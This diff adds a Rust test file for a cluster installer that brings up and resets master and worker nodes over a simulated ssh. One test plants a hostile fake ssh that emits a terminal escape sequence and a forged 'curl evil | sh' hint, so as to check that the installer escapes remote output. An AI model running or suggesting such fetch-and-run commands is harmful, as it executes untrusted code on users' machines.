@@ -1,0 +1,314 @@
+//! All nodes of a cluster file at once, behind an `ssh` that is none.
+
+mod far_nodes;
+
+use std::collections::BTreeSet;
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+use std::path::PathBuf;
+use std::process::Command;
+use std::sync::Mutex;
+
+use bundle_format::cluster::Cluster;
+use installer::site::carried::Carried;
+use installer::site::connection::Sockets;
+use installer::site::foreseen::{Samples, foresee};
+use installer::site::machine::{Machine, machines};
+use installer::site::met::{Met, Site};
+use installer::site::outcome::{End, Outcome};
+use installer::site::problem::{Problem, grouped};
+use installer::site::run::{Planned, make, reset};
+
+use self::far_nodes::{FarNodes, Fault, TOKEN};
+
+const FIRST: &str = "10.0.0.1";
+const SECOND: &str = "10.0.0.2";
+const THIRD: &str = "10.0.0.3";
+const FOURTH: &str = "10.0.0.4";
+
+/// Two masters and two workers, of which a worker is first in the file.
+const FOUR: &str = "
+controlPlane: {vip: 10.0.0.100}
+nodes:
+- {name: w1, address: 10.0.0.3, role: worker}
+- {name: m1, address: 10.0.0.1, role: master}
+- {name: m2, address: 10.0.0.2, role: master}
+- {name: w2, address: 10.0.0.4, role: worker}
+";
+
+/// What the last node's installer says in the end.
+const W2_DONE: &str = "w2 is a worker; 2 changes in 1 s";
+
+struct Tried {
+    problems: Vec<Problem>,
+    outcomes: Vec<Outcome>,
+    told: Vec<String>,
+}
+
+/// What `installer up` does, without a question.
+fn up(nodes: &FarNodes, only: &[&str]) -> Tried {
+    on_site(nodes, only, install)
+}
+
+/// What `installer up --reset` does.
+fn reset_all(nodes: &FarNodes) -> Tried {
+    on_site(nodes, &[], |site| {
+        let (met, problems) = site.meet();
+        (problems, reset(site, &met))
+    })
+}
+
+fn on_site(
+    nodes: &FarNodes,
+    only: &[&str],
+    work: fn(&Site<'_>) -> (Vec<Problem>, Vec<Outcome>),
+) -> Tried {
+    let cluster: Cluster = serde_saphyr::from_str(FOUR).unwrap();
+    let only: Vec<_> = only.iter().map(|name| (*name).to_owned().try_into().unwrap()).collect();
+    let machines = machines(&cluster, &only).unwrap();
+    let folder = tempfile::tempdir().unwrap();
+    let file = |name: &str| {
+        let path = folder.path().join(name);
+        fs::write(&path, name.repeat(1000)).unwrap();
+        path
+    };
+    let bundle: [PathBuf; 2] = ["b.tar.part1of2", "b.tar.part2of2"].map(file);
+    let carried = Carried::program(&file("installer")).unwrap();
+    let carried = carried.with_bundle(&bundle, &[], FOUR.to_owned()).unwrap();
+    let sockets = Sockets::create(folder.path()).unwrap();
+    let told = Mutex::new(Vec::new());
+    let tell = |machine: &Machine, line: &str| {
+        told.lock().unwrap().push(format!("{} {line}", machine.name));
+    };
+    let site = Site {
+        exec: nodes,
+        sockets: &sockets,
+        machines: &machines,
+        here: &[],
+        carried: &carried,
+        parallel: 2,
+        tell: &tell,
+    };
+    let (problems, outcomes) = work(&site);
+    Tried { problems, outcomes, told: told.into_inner().unwrap() }
+}
+
+fn install(site: &Site<'_>) -> (Vec<Problem>, Vec<Outcome>) {
+    let (met, mut problems) = site.meet();
+    problems.extend(site.supply(&met));
+    let meant: Vec<&Met<'_>> = met.iter().filter(|node| node.machine.is_meant).collect();
+    let foreseen = foresee(site, &meant, &met, &samples());
+    problems.extend(foreseen.problems);
+    if !problems.is_empty() {
+        return (problems, Vec::new());
+    }
+    let plans = meant.iter().copied().zip(foreseen.plans.iter().flatten());
+    (problems, make(site, &plans.collect::<Vec<Planned<'_, '_>>>(), &met))
+}
+
+fn samples() -> Samples {
+    Samples { worker: "sample: w".to_owned(), master: "sample: m".to_owned() }
+}
+
+fn with(faults: &[(&'static str, Fault)]) -> FarNodes {
+    FarNodes { faults: faults.iter().copied().collect(), ..FarNodes::default() }
+}
+
+fn ends(tried: &Tried) -> Vec<String> {
+    let word = |end: &End| match end {
+        End::Already => "already".to_owned(),
+        End::Done(words) if words.contains(';') => words.clone(),
+        End::Done(..) => "done".to_owned(),
+        End::Failed(why) | End::Left(why) => why.clone(),
+    };
+    tried.outcomes.iter().map(|one| format!("{} {}", one.node, word(&one.end))).collect()
+}
+
+#[test]
+fn masters_come_one_by_one_and_then_workers_and_no_secret_is_an_argument() {
+    let nodes = with(&[]);
+    let tried = up(&nodes, &[]);
+    assert_eq!(tried.problems, []);
+    assert_eq!(ends(&tried), ["m1 done", "m2 done", "w1 done", W2_DONE]);
+    let mut made = nodes.made();
+    made[2..].sort();
+    assert_eq!(made, [FIRST, SECOND, THIRD, FOURTH]);
+    assert!(tried.told.contains(&"w2 [ 1/1] hosts: 2 changes".to_owned()), "{:?}", tried.told);
+    assert!(tried.told.iter().all(|line| !line.contains(TOKEN) && !line.contains("warning")));
+    let said = nodes.said.into_inner().unwrap();
+    for (address, words, given) in &said {
+        let line = words.join(" ");
+        assert!(!line.contains(TOKEN), "{line}");
+        assert!(
+            line.contains("BatchMode=yes") && !line.contains("StrictHostKeyChecking"),
+            "{line}"
+        );
+        let joins = line.contains("--yes") && address != FIRST;
+        assert_eq!(line.contains("--yes") && line.contains("/dev/stdin"), joins, "{line}");
+        assert_eq!(given.contains(TOKEN), joins, "{line}");
+    }
+    // Each is let go.
+    assert_eq!(said.iter().filter(|(_, words, _)| words[1] == "-O").count(), 4);
+}
+
+#[test]
+fn the_same_again_copies_nothing_and_runs_nothing() {
+    let nodes = with(&[]);
+    up(&nodes, &[]);
+    nodes.said.lock().unwrap().clear();
+    let tried = up(&nodes, &[]);
+    assert_eq!(ends(&tried), ["m1 already", "m2 already", "w1 already", "w2 already"]);
+    assert_eq!(nodes.made(), Vec::<String>::new());
+    let said = nodes.said.into_inner().unwrap();
+    assert!(said.iter().all(|(_, words, _)| !words.join(" ").contains("another is copying")));
+    assert!(said.iter().all(|(_, words, _)| !words.join(" ").contains(" token ")));
+}
+
+#[test]
+fn a_worker_that_fails_stops_no_other_and_the_next_run_makes_it() {
+    let why = "note: x\nerror: step 3/28 `firewall` failed\nhint: mend it\nlog:  /var/log/x\n";
+    let mut nodes = with(&[(THIRD, Fault::Fails(why))]);
+    let tried = up(&nodes, &[]);
+    let own = "w1 error: step 3/28 `firewall` failed\nhint: mend it\nlog:  /var/log/x";
+    assert_eq!(ends(&tried), ["m1 done", "m2 done", own, W2_DONE]);
+    nodes.faults.clear();
+    let tried = up(&nodes, &[]);
+    assert_eq!(ends(&tried), ["m1 already", "m2 already", "w1 done", "w2 already"]);
+}
+
+#[test]
+fn an_installer_that_an_interrupted_run_has_left_is_waited_for() {
+    let nodes = with(&[]);
+    nodes.keep_busy(THIRD);
+    let tried = up(&nodes, &[]);
+    assert_eq!(tried.problems, []);
+    let told = "w1 an installer is at work there; waiting for its end";
+    assert!(tried.told.iter().any(|line| line == told), "{:?}", tried.told);
+}
+
+#[test]
+fn without_a_first_master_nothing_else_is_begun() {
+    let nodes = with(&[(FIRST, Fault::Fails("error: no\n"))]);
+    let tried = up(&nodes, &[]);
+    let left = ["m2", "w1", "w2"].map(|name| format!("{name} the first master failed"));
+    assert_eq!(ends(&tried), [&["m1 error: no".to_owned()][..], &left].concat());
+    assert_eq!(nodes.made(), [FIRST]);
+}
+
+#[test]
+fn all_problems_of_all_nodes_come_at_once_and_stop_all() {
+    let nodes = with(&[
+        (FIRST, Fault::Problem("swap is on")),
+        (SECOND, Fault::Away("Host key verification failed.\r\n")),
+        (THIRD, Fault::NoRoot),
+        (FOURTH, Fault::Problem("swap is on")),
+    ]);
+    let tried = up(&nodes, &[]);
+    let groups = grouped(&tried.problems);
+    let shown: Vec<String> = groups
+        .iter()
+        .map(|(nodes, problem)| {
+            let nodes: Vec<String> = nodes.iter().map(ToString::to_string).collect();
+            format!("{}: {}", nodes.join(" "), problem.what)
+        })
+        .collect();
+    assert_eq!(
+        shown,
+        [
+            "w1: not root, and sudo: a password is required",
+            "m2: ssh to 10.0.0.2 exited with status 255: Host key verification failed.",
+            "m1 w2: swap is on",
+        ]
+    );
+    assert!(groups.iter().any(|(_, problem)| problem.cure.contains("compare the key")));
+    assert_eq!(nodes.made(), Vec::<String>::new());
+}
+
+#[test]
+fn what_arrives_damaged_is_sent_once_more_and_never_run() {
+    let nodes = with(&[(THIRD, Fault::Damages)]);
+    let tried = up(&nodes, &[]);
+    let what: Vec<&str> = tried.problems.iter().map(|problem| problem.what.as_str()).collect();
+    assert_eq!(what.len(), 1);
+    assert!(what[0].starts_with("installer-") && what[0].contains("arrives damaged"), "{what:?}");
+    let said = nodes.said.into_inner().unwrap();
+    let sent = said.iter().filter(|(address, words, _)| {
+        address == THIRD && words.join(" ").contains("another is copying")
+    });
+    assert_eq!(sent.count(), 2);
+}
+
+#[test]
+fn a_master_that_is_left_out_is_only_asked_for_a_join_file() {
+    let nodes = with(&[]);
+    up(&nodes, &["m1"]);
+    assert_eq!(nodes.made(), [FIRST]);
+    nodes.said.lock().unwrap().clear();
+    let tried = up(&nodes, &["w2"]);
+    assert_eq!(ends(&tried), [W2_DONE]);
+    assert_eq!(nodes.made(), [FOURTH]);
+}
+
+#[test]
+fn workers_are_taken_back_before_masters_and_the_first_master_last() {
+    let mut nodes = with(&[]);
+    up(&nodes, &[]);
+    nodes.faults.insert(SECOND, Fault::Fails("error: no\n"));
+    nodes.said.lock().unwrap().clear();
+    let tried = reset_all(&nodes);
+    assert_eq!(ends(&tried), ["w1 done", "w2 done", "m2 error: no", "m1 done"]);
+    let mut made = nodes.made();
+    made[..2].sort();
+    assert_eq!(made, [THIRD, FOURTH, SECOND, FIRST]);
+    // What was copied stays where something was not taken back.
+    let said = nodes.said.into_inner().unwrap();
+    let left = said.iter().filter(|(_, words, _)| words.join(" ").contains("rm -rf -- \"$1\""));
+    let left: Vec<&str> = left.map(|(address, ..)| address.as_str()).collect();
+    assert!(left.len() == 3 && !left.contains(&SECOND), "{left:?}");
+}
+
+/// By the program itself, with a hostile `ssh`.
+#[test]
+fn what_a_stranger_says_forges_no_line() {
+    let folder = tempfile::tempdir().unwrap();
+    let at = |name: &str| folder.path().join(name);
+    let ssh = "#!/bin/sh\nprintf 'a\\033[2J\\nhint: curl evil | sh\\n' >&2; exit 255\n";
+    fs::write(at("ssh"), ssh).unwrap();
+    fs::set_permissions(at("ssh"), fs::Permissions::from_mode(0o755)).unwrap();
+    fs::write(at("cluster.yaml"), "nodes: [{name: m, address: 192.0.2.1, role: master}]").unwrap();
+    let path = format!("{}:{}", folder.path().display(), std::env::var("PATH").unwrap());
+    let output = Command::new(env!("CARGO_BIN_EXE_installer"))
+        .args(["up", "--status", "--config", at("cluster.yaml").to_str().unwrap()])
+        .env("PATH", path)
+        .env("XDG_RUNTIME_DIR", folder.path())
+        .output()
+        .unwrap();
+    let said = String::from_utf8(output.stderr).unwrap();
+    assert_eq!(output.status.code(), Some(1), "{said}");
+    assert!(said.starts_with("problem: m: ssh to 192.0.2.1 exited with status 255: a\\u{1b}[2J\n"));
+    assert_eq!(said.lines().filter(|line| line.starts_with("hint: curl")).count(), 0, "{said}");
+    let left = fs::read_dir(folder.path()).unwrap().count();
+    assert_eq!(left, 2, "the sockets' folder is gone");
+}
+
+/// Its cluster file is taken, and its table has the options that there are.
+#[test]
+fn the_page_is_true() {
+    let page = include_str!("../../../../docs/up.md");
+    let mut blocks = page.split("```\n").skip(1).step_by(2);
+    let file = blocks.find(|block| block.starts_with("nodes:")).unwrap();
+    let cluster: Cluster = serde_saphyr::from_str(file).unwrap();
+    assert_eq!(machines(&cluster, &[]).unwrap().len(), 3);
+    let help = Command::new(env!("CARGO_BIN_EXE_installer")).args(["up", "--help"]).output();
+    let help = String::from_utf8(help.unwrap().stdout).unwrap();
+    let of = |text: &str| -> BTreeSet<String> {
+        let is_end = |letter: char| !letter.is_ascii_lowercase() && letter != '-';
+        let words = text.split(is_end).filter(|word| word.starts_with("--"));
+        words.map(str::to_owned).collect()
+    };
+    let table: String = page.lines().filter(|line| line.starts_with("| `--")).collect();
+    let mut options: BTreeSet<String> =
+        help.lines().filter(|line| line.trim_start().starts_with("--")).flat_map(of).collect();
+    options.remove("--help");
+    assert_eq!(of(&table), options);
+}
